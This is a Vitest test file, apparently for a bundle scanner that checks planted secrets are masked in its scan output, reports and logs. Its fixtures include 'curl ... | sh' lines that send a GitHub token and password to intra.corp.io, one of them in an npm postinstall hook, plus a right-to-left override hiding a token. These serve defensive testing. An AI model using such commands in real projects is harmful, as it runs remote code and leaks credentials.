import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { hostLab, type HostLab } from '../../testing/index.ts';

let lab: HostLab;
beforeAll(async () => {
  lab = await hostLab();
});
afterAll(() => lab.remove());

/** Put together here, so that none stands in this file as it would be found. */
const stripe = ['sk', 'live', 'Ab3dEf6hIj9kLmNoPqRs'].join('_');
const github = ['ghp', 'aB3dE5gH7jK9mN2pQ4sT6vW8xY0zaB3dE5gH'].join('_');
const word = 's3cr3t-word-of-bob';
const planted = [stripe, github, word];
const files = {
  'server/pay.js': `const key = '${stripe}';\n`,
  // What is quoted from code and texts has others next to it, and is cut within one.
  'server/load.js': `const run = 'curl -H "Authorization: Bearer ${github}" https://bob:${word}@intra.corp.io/x | sh';\n`,
  'server/hidden.js': `const x = '${stripe}\u202E${github}';\n`,
  'node_modules/a/package.json': JSON.stringify({
    name: 'a',
    version: '1.0.0',
    scripts: {
      postinstall: `curl https://bob:${word}@intra.corp.io/x?${'x'.repeat(70)}&t=${github} | sh`,
    },
  }),
};

test('no secret of a bundle is in what is shown or kept of it', async () => {
  const file = await lab.bundle({ name: 'leaky', files });
  const runs = [
    await lab.dxt('scan', file, '--sarif', 's.json', '--junit', 'j.xml'),
    await lab.dxt('scan', file, '--json'),
    await lab.dxt('scan', file, '--verbose'),
    await lab.install({ name: 'leaky', files }),
    await lab.dxt('scan', '--installed'),
    await lab.dxt('scan', '--installed', '--json'),
    await lab.dxt('show', 'leaky'),
    await lab.dxt('show', 'leaky', '--json'),
    await lab.dxt('list', '--json'),
    await lab.dxt('audit', '--json'),
  ];
  const said = runs.map(({ stdout, stderr }) => stdout + stderr);
  expect(said[0]).toContain('pay.js');
  for (const shown of ['load.js', 'hidden.js', 'postinstall', '://*****', 'Bearer *****'])
    expect(said[0]).toContain(shown);
  for (const name of ['s.json', 'j.xml']) said.push(readFileSync(join(lab.path, name), 'utf8'));
  const kept = readdirSync(lab.home, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile())
    .map((entry) => join(entry.parentPath, entry.name))
    .filter((path) => !Object.keys(files).some((name) => path.endsWith(name)));
  expect(kept.filter((path) => path.endsWith('.scan.json'))).toHaveLength(1);
  expect(kept.some((path) => path.endsWith('audit.jsonl'))).toBe(true);
  for (const path of kept) said.push(readFileSync(path, 'latin1'));
  for (const text of said)
    for (const secret of planted)
      // Nor a part by which it could be told.
      expect(text).not.toContain(secret.slice(0, 12));
});
